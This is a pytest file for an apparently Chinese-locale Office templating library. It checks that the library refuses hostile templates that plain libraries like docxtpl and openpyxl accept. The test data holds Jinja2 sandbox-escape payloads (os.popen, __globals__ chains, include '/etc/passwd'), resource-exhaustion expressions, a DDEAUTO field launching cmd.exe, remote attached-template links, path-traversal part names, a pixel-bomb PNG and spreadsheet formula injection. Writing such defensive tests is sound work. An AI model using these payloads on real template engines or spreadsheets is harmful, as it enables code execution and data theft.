"""The payload tables of traps.md, row by row: first what the plain libraries do with it, then that ours does not.

B1-B5 code and endless work in templates; C13-C18 hostile Office files; E1-E9 values that documents cannot hold as they are. Each
payload stands in every place a template can hold text, filled or not.
"""

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from importlib.metadata import version
from xml.etree import ElementTree as etree

import docx
import docxtpl
import jinja2
import numpy
import openpyxl
import pandas
import pytest
import xlsxwriter
from docx.oxml import parse_xml
from drawing import FILTERS, WHO, Drawn, png
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2.sandbox import ImmutableSandboxedEnvironment
from officefill import open_template
from officefill.errors import BadTemplate, Fault
from officefill.language import expressions, program
from officefill.language.expressions import BadTag, Failed, PlainEnvironment, parse
from officefill.ooxml.namespaces import NOT_XML
from officefill.ooxml.sandbox import Stopped, limited
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from postloan.numbers import FILTERS as ALL_FILTERS

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
POPEN = '{{ cycler.__init__.__globals__.os.popen("echo pwned").read() }}'


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# Places


def _word_part(kind: str, name: str, xml: str) -> Callable[[Drawn, str], Drawn]:
    """A part of a Word file that holds the payload: its arrow from the body, its text around {}."""

    def put(drawn: Drawn, payload: str) -> Drawn:
        arrow = f'<Relationship Id="x9" Type="{OFFICE}/{kind}" Target="{name}"/></Relationships>'
        drawn.replaced("word/_rels/document.xml.rels", "</Relationships>", arrow)
        return drawn.with_parts({f"word/{name}": xml.format(escaped(payload)).encode()})

    return put


_NOTE = f'<w:{{0}}s xmlns:w="{W}"><w:{{0}} w:id="2"><w:p><w:r><w:t>{{{{}}}}</w:t></w:r></w:p></w:{{0}}></w:{{0}}s>'
_CHART = (
    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    "<c:chart><c:title><c:tx><c:rich><a:p><a:r><a:t>{}</a:t></a:r></a:p></c:rich></c:tx></c:title><c:plotArea/></c:chart></c:chartSpace>"
)
_DRAWN = f'''<w:r xmlns:w="{W}"><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">
<wp:extent cx="360000" cy="360000"/><wp:docPr id="7" name="图"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">
<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">
<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="{OFFICE}" r:id="x9"/>
</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'''
_BOX = f'<w:r xmlns:w="{W}" xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:textbox><w:txbxContent><w:p><w:r><w:t>{{}}</w:t></w:r></w:p></w:txbxContent></v:textbox></w:pict></w:r>'


def _in_word(word, where: str, payload: str) -> Drawn:
    def draw(paper):
        if where in ("header", "footer"):
            getattr(paper.sections[0], where).paragraphs[0].text = payload
        elif where == "core title":
            paper.core_properties.title = payload
        elif where == "text box":
            paper.add_paragraph("框")._p.append(parse_xml(_BOX.format(escaped(payload))))
        elif where == "chart title":
            paper.add_paragraph("图")._p.append(parse_xml(_DRAWN))
        elif where == "table cell":
            paper.add_table(1, 1).rows[0].cells[0].text = payload
        elif where == "body":
            paper.add_paragraph(payload)

    parts = {
        "footnote": _word_part("footnotes", "footnotes.xml", _NOTE.format("footnote")),
        "endnote": _word_part("endnotes", "endnotes.xml", _NOTE.format("endnote")),
        "comment": _word_part("comments", "comments.xml", _NOTE.format("comment")),
        "chart title": _word_part("chart", "charts/chart1.xml", _CHART),
    }
    drawn = word("文", draw)
    return parts[where](drawn, payload) if where in parts else drawn


WORD_PLACES = ["body", "table cell", "header", "footer", "footnote", "endnote", "text box", "comment", "chart title", "core title"]


def _in_book(book, where: str, payload: str) -> Drawn:
    def draw(paper):
        sheet = paper["Sheet"]
        if where == "sheet cell":
            sheet["B2"] = payload
        elif where == "sheet header":
            sheet.oddHeader.center.text = payload
        elif where == "sheet footer":
            sheet.oddFooter.left.text = payload
        elif where == "defined name":
            paper.defined_names["名"] = DefinedName("名", attr_text=f'"{payload}"')
        elif where == "chart title":
            chart = BarChart()
            chart.title = payload
            chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=1))
            sheet.add_chart(chart, "D4")
        elif where == "comment":
            sheet["A1"].comment = Comment(payload, "某")
        elif where == "core title":
            paper.properties.title = payload

    return book([["文", 1]], draw)


BOOK_PLACES = ["sheet cell", "sheet header", "sheet footer", "defined name", "chart title", "comment", "core title"]


@pytest.fixture(params=[*(("word", where) for where in WORD_PLACES), *(("book", where) for where in BOOK_PLACES)], ids="-".join)
def place(request, word, book) -> Callable[[str], Drawn]:
    """Draws a template with a payload in this one place."""
    kind, where = request.param
    return lambda payload: _in_word(word, where, payload) if kind == "word" else _in_book(book, where, payload)


# B: code and endless work

CORPUS = [
    POPEN,
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ x.__init__.__globals__ }}",
    "{{ x|attr('__class__') }}",
    "{{ x|map(attribute='__class__')|list }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ '%s'|format(x) }}",
    "{{ x.format_map({}) }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ namespace() }}",
    "{{ joiner.__init__ }}",
    "{{ self.__init__ }}",
    "{{ request.application }}",
    "{{ x.to_csv('/tmp/x') }}",
    "{{ x['__class__'] }}",
    "{{ x[0:2] }}",
    "{{ loop.__class__ }}",
    "{% for i in x %}{{ loop._iterable }}{% endfor %}",
    "{% for i in x %}{{ loop.cycle('a') }}{% endfor %}",
    "{% for i in x recursive %}{% endfor %}",
    "{% set y = x %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as o %}",
    "{% macro m() %}{% endmacro %}",
    "{{ range(10000000) }}",
    "{{ 'a' * 300000000 }}",
    "{{ 9 ** 9 ** 9 }}",
]
"""Escapes of jinja2 sandboxes that were written about, and what would stop a machine. No name of `x` reaches anything."""


@pytest.mark.parametrize("payload", CORPUS)
def test_b1_b2_a_template_runs_nothing_wherever_the_payload_stands(place, payload):
    faults = place(payload).faults(x=[{"a": 1}])
    assert faults and not any("pwned" in fault for fault in faults)


def test_b1_the_plain_library_runs_it(word):
    template = docxtpl.DocxTemplate(str(word(POPEN).path))
    template.render({})
    assert "pwned" in template.docx.paragraphs[0].text


def test_b3_a_rich_value_never_gets_into_a_template(word, book, tmp_path):
    frame = pandas.DataFrame({"a": [1]})
    path = tmp_path / "written.csv"
    ImmutableSandboxedEnvironment().from_string("{{ df.to_csv(path) }}").render(df=frame, path=str(path))
    assert path.exists(), "jinja2's sandbox alone lets it write"
    path.unlink()
    for drawn in (word("{{ x }}"), book([["{{ x }}"]])):
        for rich in (frame, frame["a"], numpy.int64(1), object(), lambda: 1, (1, 2), {1}, type("Text", (str,), {})("a")):
            for value in (rich, [rich], {"k": [{"k": rich}]}):
                with pytest.raises(TypeError, match="wanted"):
                    drawn.fill(x=value)
    assert not path.exists()


def test_b4_jinja2_is_past_its_known_escapes():
    assert tuple(map(int, version("jinja2").split(".")[:3])) >= (3, 1, 6)


ENDLESS = {
    "loops in loops": "{% for a in xs %}{% for b in xs %}{% for c in xs %}{{ c }}{% endfor %}{% endfor %}{% endfor %}",
    "joined with itself": "{{ xs|join(xs|join(xs|join(xs|join(xs|join))))|length }}",
    "a text formatted by a number": "{% if '%999999999d' is even %}a{% endif %}",
    "a number with endless places": "{{ 1|number(999999999) }}",
    "a literal too long": "{{ '" + "x" * 2000 + "' }}",
}


@pytest.mark.parametrize("payload", ENDLESS.values(), ids=ENDLESS)
def test_b5_endless_work_ends_in_words_before_it_takes_the_machine(word, book, payload, monkeypatch):
    monkeypatch.setattr(program, "MOST_ITERATIONS", 100_000)  # for the test's sake; the child is a fork and sees it
    xs = [f"{number}" for number in range(3000)]
    for draw in (word, lambda text: book([[text]])):
        with pytest.raises((BadTemplate, Stopped)):
            limited(_filled, draw(payload).path, {"xs": xs}, seconds=60, megabytes=1500)


def test_b5_long_xml_in_nested_loops_ends_before_it_is_written(word):
    lines = ["{% for a in xs %}", "{% for b in xs %}", "字" * 3000, "{% endfor %}", "{% endfor %}"]
    assert "million characters" in word(*lines).faults(xs=list(range(1300)))[0]
    assert (
        "million characters"
        in word([["{% for a in xs %}{% for b in xs %}{{ b }}" + "字" * 3000 + "{% endfor %}{% endfor %}"]]).faults(xs=list(range(1300)))[0]
    )


def _filled(path, context):
    return open_template(path, {**FILTERS, **ALL_FILTERS}).render(context, WHO)


# No attribute of a live object is reachable

PARTS = [*dir(str), *dir(dict), *dir(Decimal), "a", "b", "os", "mro", "__globals__", "f_back"]
NAMES = ["x", "loop", "self", "cycler", "lipsum", "namespace", "range", "dict", "context", "environment", "_state", "caller", "varargs"]
FILTER_NAMES = [
    *ALL_FILTERS,
    "attr",
    "map",
    "select",
    "format",
    "xmlattr",
    "tojson",
    "pprint",
    "first",
    "list",
    "join",
    "length",
    "-decimal",
]
TEST_NAMES = ["none", "even", "odd", "callable", "defined", "mapping", "sameas(1)", "in [1]", "filter"]


@st.composite
def expression(draw) -> str:
    """A chain as attackers write them: a name or literal, then attributes, indexes, calls, filters and tests."""
    text = draw(st.sampled_from([*NAMES, "''", "1", "[]", "{}", "()", "1.5", "true", "none"]))
    for _ in range(draw(st.integers(0, 5))):
        link = draw(st.sampled_from([".{}", "['{}']", ".{}()", "|{}", "|{}(1)", "|{}('x')", "|attr('{}')", " is {}", "[{}]", "({})"]))
        words = FILTER_NAMES if link.startswith("|{") else TEST_NAMES if "is" in link else PARTS
        text += link.format(draw(st.sampled_from(words)))
    return text


@settings(max_examples=15 * settings.default.max_examples)
@given(expression())
def test_no_chain_of_names_filters_and_tests_reaches_an_attribute_of_a_live_object(text):
    """A chain is refused, or its names are unknown, or what it gives is a plain value that was in the context."""
    environment = PlainEnvironment(ALL_FILTERS)
    try:
        node = parse(environment, text)
    except BadTag:
        return
    template = jinja2.nodes.Template([jinja2.nodes.Assign(jinja2.nodes.Name("out", "store"), node)], lineno=1)
    compiled = jinja2.Template.from_code(environment, environment.compile(template, "t", "t"), {})
    try:
        out = compiled.make_module({"x": {"a": ["b", 1, Decimal("1.5")], "b": None}}).out
    except (TypeError, ValueError, ArithmeticError, AttributeError, jinja2.UndefinedError):
        return
    assert type(out) in (str, int, bool, Decimal, list, dict, type(None), Failed, expressions.StrictUndefined), text


# C: hostile Office files


def _field(code: str) -> Callable[[object], None]:
    def draw(paper):
        line = paper.add_paragraph("{{ a }}")
        for inner in (
            '<w:fldChar w:fldCharType="begin"/>',
            f"<w:instrText>{escaped(code)}</w:instrText>",
            '<w:fldChar w:fldCharType="end"/>',
        ):
            line._p.append(parse_xml(f'<w:r xmlns:w="{W}">{inner}</w:r>'))

    return draw


def _arrow(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="x1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'


C13 = {
    "DDEAUTO": lambda word: word(_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "INCLUDEPICTURE": lambda word: word(_field('INCLUDEPICTURE "http://x/y.png"')),
    "attached template": lambda word: word("a").replaced(
        "word/_rels/document.xml.rels", "</Relationships>", _arrow("attachedTemplate", "http://x/y.dotm")
    ),
    "linked vbaProject": lambda word: (
        word("a")
        .replaced(
            "word/_rels/document.xml.rels",
            "</Relationships>",
            _arrow("vbaProject", "vbaProject.bin", "").replace("officeDocument/2006/relationships/vba", "x/vba"),
        )
        .with_parts({"word/vbaProject.bin": b"\xd0\xcf"})
    ),
}


@pytest.mark.parametrize("draw", C13.values(), ids=C13)
def test_c13_what_fetches_or_runs_is_refused_when_the_template_is_opened(word, draw):
    assert draw(word).faults()


def test_c13_the_plain_library_keeps_an_attached_template(word, tmp_path):
    template = docxtpl.DocxTemplate(str(C13["attached template"](word).path))
    template.render({})
    template.save(str(tmp_path / "out.docx"))
    assert b"http://x/y.dotm" in zipfile.ZipFile(tmp_path / "out.docx").read("word/_rels/document.xml.rels")


def _linked(book) -> Drawn:
    """A workbook with a link to another and the values it last saw there."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    link = (
        f'<externalLink xmlns="{main}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"><sheetNames><sheetName val="工资"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>机密</v></cell></row></sheetData></sheetDataSet>'
        "</externalBook></externalLink>"
    )
    away = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{_arrow("externalLinkPath", "file:///c:/x.xlsx").replace("x1", "rId1")}'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    drawn = book([["文"]]).with_parts(
        {"xl/externalLinks/externalLink1.xml": link.encode(), "xl/externalLinks/_rels/externalLink1.xml.rels": away.encode()}
    )
    drawn.replaced(
        "[Content_Types].xml", "</Types>", f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{kind}"/></Types>'
    )
    drawn.replaced("xl/_rels/workbook.xml.rels", "</Relationships>", _arrow("externalLink", "externalLinks/externalLink1.xml", ""))
    return drawn.replaced(
        "xl/workbook.xml",
        "</sheets>",
        f'</sheets><externalReferences><externalReference xmlns:r="{OFFICE}" r:id="x1"/></externalReferences>',
    )


def test_c14_a_link_to_another_workbook_is_refused_and_its_cached_values_go_nowhere(book, tmp_path):
    drawn = _linked(book)
    openpyxl.load_workbook(drawn.path).save(tmp_path / "kept.xlsx")
    kept = zipfile.ZipFile(tmp_path / "kept.xlsx")
    assert any("机密" in kept.read(name).decode("utf-8") for name in kept.namelist()), "openpyxl keeps the secret"
    assert any("other workbooks" in fault for fault in drawn.faults())


@pytest.mark.parametrize(
    "kind", ["ms-excel.sheet.macroEnabled.main", "ms-excel.template.macroEnabled.main", "ms-excel.addin.macroEnabled.main"]
)
def test_c15_a_workbook_with_macros_is_refused(book, kind):
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert "macros" in book([["文"]]).replaced("[Content_Types].xml", main, f"application/vnd.{kind}+xml").faults()[0]


def _rich(path) -> Drawn:
    """A workbook with all that openpyxl loses, beside a tag."""
    paper = xlsxwriter.Workbook(str(path))
    sheet = paper.add_worksheet("表")
    sheet.write_row(0, 0, ["{{ a }}", 1, 2])
    sheet.insert_textbox("E1", "说明")
    sheet.insert_button("E9", {"caption": "打印"})
    sheet.add_sparkline("D1", {"range": "表!B1:C1"})
    sheet.conditional_format("B1:C1", {"type": "data_bar", "data_bar_2010": True})
    sheet.write_rich_string("A2", "普", paper.add_format({"bold": True}), "粗")
    chart = paper.add_chart({"type": "column"})
    chart.add_series({"values": "=表!$B$1:$C$1"})
    sheet.insert_chart("E20", chart)
    sheet.insert_image("E30", "p.png", {"image_data": io.BytesIO(png())})
    paper.close()
    return Drawn(path)


_CACHE = re.compile(r"<c:(num|str)Cache>.*?</c:(num|str)Cache>")


def test_c16_nothing_that_was_drawn_in_a_workbook_is_lost(tmp_path):
    drawn = _rich(tmp_path / "book.xlsx")
    before, after = zipfile.ZipFile(drawn.path), zipfile.ZipFile(io.BytesIO(drawn.fill(a="甲")))
    openpyxl.load_workbook(drawn.path).save(tmp_path / "plain.xlsx")
    plain = zipfile.ZipFile(tmp_path / "plain.xlsx")
    assert not any("说明".encode() in plain.read(name) for name in plain.namelist()), "openpyxl loses the text box"
    assert set(before.namelist()) <= set(after.namelist())
    for name in before.namelist():
        if name.startswith(("xl/drawings/", "xl/media/")):
            assert before.read(name) == after.read(name), name
        elif name.startswith("xl/charts/"):  # it points at rows, so it is written anew; what it last showed may go
            was, is_now = (_CACHE.sub("", etree.canonicalize(file.read(name).decode("utf-8"))) for file in (before, after))
            assert was.replace("'表'!", "表!") == is_now.replace("'表'!", "表!")
    sheet = after.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "sparkline" in sheet and "x14:dataBar" in sheet and "legacyDrawing" in sheet and "甲" in sheet


def test_c17_a_picture_that_says_it_is_huge_is_refused(word):
    bomb = png(60000, 60000)
    assert "60000 × 60000" in word("{{ p|picture(10) }}").faults(p=bomb)[0]


@pytest.mark.parametrize("name", ["../../x", "/etc/x", "word/../../x", "..\\x"])
def test_c18_a_part_that_would_lie_outside_is_refused(word, book, name):
    for drawn in (word("文"), book([["文"]])):
        assert "a part with the name" in drawn.with_parts({name: b"x"}).faults()[0]


# E: values that documents cannot hold as they are

TEXTS = [
    "100<200",
    "逾期<30天",
    "A&B公司",
    "<借款人>",
    "a & b",
    "&lt;",
    "]]>",
    "<!--",
    "<w:p/>",
    "</w:t></w:r></w:p><w:p>",
    "“”",
    "{{ a }}",
    "{% if a %}",
]


@pytest.mark.parametrize("text", TEXTS)
def test_e1_e2_a_text_prints_as_it_is(word, book, text):
    assert word("{{ a }}", [["{{ a }}"]]).texts(a=text) == [text]
    assert word([["{{ a }}"]]).rows(a=text) == [[text]]
    assert book([["{{ a }}", "甲{{ a }}乙"]]).cells(a=text) == [[text, f"甲{text}乙"]]


@pytest.mark.parametrize(("text", "cut"), [("A&B公司", "A"), ("逾期<30天", "逾期30天")])
def test_e1_the_plain_library_cuts_it(word, tmp_path, text, cut):
    template = docxtpl.DocxTemplate(str(word("{{ a }}").path))
    template.render({"a": text})
    assert template.docx.paragraphs[0].text == cut


def test_e3_a_misspelt_name_is_refused_where_the_plain_library_prints_nothing(word, book):
    template = docxtpl.DocxTemplate(str(word("金额{{ amuont }}元").path))
    template.render({"amount": "1"})
    assert template.docx.paragraphs[0].text == "金额元"
    for drawn in (word("金额{{ amuont }}元"), book([["{{ amuont }}"]])):
        assert "did you mean 'amount'" in drawn.faults(amount="1")[0]


@pytest.mark.parametrize("value", [None, Decimal("NaN"), Decimal("Infinity"), ""])
def test_e4_a_blank_or_a_non_number_never_prints(word, book, value):
    if value != "":
        assert word("{{ a }}").faults(a=value) and book([["{{ a }}", "甲{{ a }}"]]).faults(a=value)
    for drawn in (word("{{ a|wan }}"), book([["甲{{ a|wan }}"]])):
        context = {"a": value}
        try:
            data = open_template(drawn.path, ALL_FILTERS).render(context, WHO)
        except BadTemplate:
            assert value is not None
        else:
            assert value is None and "不适用" in "".join(_texts(data))


@pytest.mark.parametrize("value", [0.1 + 0.2, 1e16, float("nan")])
def test_e4_floats_do_not_come_in(word, book, value):
    for drawn in (word("{{ a }}"), book([["{{ a }}"]])):
        with pytest.raises(TypeError, match="float"):
            drawn.fill(a=value)


@pytest.mark.parametrize("typed", ["｛｛ n ｝｝", "{ { n } }", "{{ n", "｛% if n %｝"])
@pytest.mark.parametrize("where", ["body", "table cell", "header", "footer", "footnote", "endnote", "text box"])
def test_e5_what_was_meant_as_a_tag_is_never_left_in_a_document(word, where, typed):
    assert _in_word(word, where, typed).faults(n=1)


@pytest.mark.parametrize("typed", ["｛｛ n ｝｝", "{ { n } }", "{{ n", "｛% if n %｝"])
@pytest.mark.parametrize("where", ["sheet cell", "sheet header", "sheet footer"])
def test_e5_nor_in_a_workbook(book, where, typed):
    assert _in_book(book, where, typed).faults(n=1)


FORMULAS = ["=1+1", "=cmd|'/c calc'!A0", "{=1+1}", "+1", "-1", "@SUM(A1)", "\t=1", "http://x", "0012345", "1E5", "TRUE", "2014-06-30"]


@pytest.mark.parametrize("text", FORMULAS)
def test_e6_e7_a_text_stays_a_text_in_a_cell(book, tmp_path, text):
    data = book([["{{ a }}", "{{ a }}甲", "=1+1"]]).fill(a=text)
    first, second, formula = next(openpyxl.load_workbook(io.BytesIO(data))["Sheet"].iter_rows())
    assert (first.data_type, first.value, second.value) == ("s", text, f"{text}甲")
    assert formula.data_type == "f"
    assert first.quotePrefix or not text.startswith("="), "Excel would count it when the cell is next edited"
    (tmp_path / "again.xlsx").write_bytes(data)
    assert Drawn(tmp_path / "again.xlsx").cells(sheet="Sheet")[0][0] == text


def test_e6_the_plain_library_makes_a_formula_of_it(tmp_path):
    paper = openpyxl.Workbook()
    paper.active["A1"] = "=1+1"
    assert paper.active["A1"].data_type == "f"


def test_e8_what_a_sheet_cannot_hold_is_refused(book, word):
    assert "characters of a cell" in book([["{{ a }}"]]).faults(a="字" * 32768)[0]
    assert book([["{{ a }}"]]).cells(a="字" * 32767) == [["字" * 32767]]
    for control in ("\x00", "\x0b", "\x1f", "\ufffe", "\ud800"):
        for drawn in (word("{{ a }}"), book([["{{ a }}"]])):
            assert "no document can hold" in drawn.faults(a=f"甲{control}")[0]
    assert NOT_XML.search("\x0b")
    assert book({"表" * 31: [["{{ a }}"]]}).cells(sheet="表" * 31, a=1) == [[1]]


@pytest.mark.parametrize("account", ["6222020200112345678", "110101199001011234"])
def test_e9_an_account_keeps_its_digits_as_text_and_as_a_number(book, tmp_path, account):
    pandas.DataFrame({"a": [int(account)]}).to_excel(tmp_path / "plain.xlsx", index=False)
    assert str(openpyxl.load_workbook(tmp_path / "plain.xlsx").active["A2"].value) != account, "pandas invents digits"
    assert book([["{{ a }}", "{{ b }}"]]).cells(a=account, b=int(account)) == [[account, account]]


def _texts(data: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        yield from (archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml"))


def test_every_fault_can_be_read(word):
    with pytest.raises(BadTemplate) as bad:
        open_template(word(POPEN).path, FILTERS)
    assert all(isinstance(fault, Fault) and fault.what and fault.where for fault in bad.value.faults)
    assert docx.Document(str(word(POPEN).path)).paragraphs[0].text == POPEN
